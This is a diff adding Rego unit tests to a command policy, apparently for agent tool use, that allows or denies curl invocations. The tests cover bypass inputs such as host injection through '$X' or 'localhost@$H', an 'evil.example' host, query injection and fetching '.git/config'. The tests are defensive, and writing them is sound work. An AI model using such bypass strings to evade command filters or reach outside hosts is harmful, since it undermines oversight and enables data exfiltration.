@@ -77,3 +77,19 @@ test_curl_download_into_control_paths_deny if {
 test_curl_abbreviated_config_deny if run("curl", ["--confi", "127.0.0.1"]) == "deny"
 
 test_curl_output_named_by_url_deny if run_with("curl", ["http://localhost:8000/{.git/config}", "-o", "#1"], {"arguments": ["http://localhost:8000/{.git/config}"], "option_list": [{"name": "-o", "value": "#1"}]}) == "deny"
+
+test_curl_quoted_localhost_prefix_allow if {
+	run_with("curl", ["-s", "\"http://localhost:3000/api/users/$USER_ID\""], {"dynamic": ["\"http://localhost:3000/api/users/$USER_ID\""]}) == "allow"
+	run_with("curl", ["\"localhost:8080/api/$ENDPOINT\""], {"dynamic": ["\"localhost:8080/api/$ENDPOINT\""]}) == "allow"
+	run_with("curl", ["\"http://127.0.0.1:3000/$(cat .route)\""], {"dynamic": ["\"http://127.0.0.1:3000/$(cat .route)\""]}) == "allow"
+}
+
+test_curl_dynamic_host_or_unquoted_deny if {
+	run_with("curl", ["\"http://localhost:${PORT}/health\""], {"dynamic": ["\"http://localhost:${PORT}/health\""]}) == "deny"
+	run_with("curl", ["http://localhost:3000/$(cat .last-id)"], {"dynamic": ["http://localhost:3000/$(cat .last-id)"]}) == "deny"
+	run_with("curl", ["\"http://localhost:3000/\"$X"], {"dynamic": ["\"http://localhost:3000/\"$X"]}) == "deny"
+	run_with("curl", ["\"http://localhost$X/\""], {"dynamic": ["\"http://localhost$X/\""]}) == "deny"
+	run_with("curl", ["\"http://localhost@$H/x\""], {"dynamic": ["\"http://localhost@$H/x\""]}) == "deny"
+	run_with("curl", ["\"http://evil.example/$X\""], {"dynamic": ["\"http://evil.example/$X\""]}) == "deny"
+	run_with("curl", ["\"http://localhost:3000?q=$X\""], {"dynamic": ["\"http://localhost:3000?q=$X\""]}) == "deny"
+}
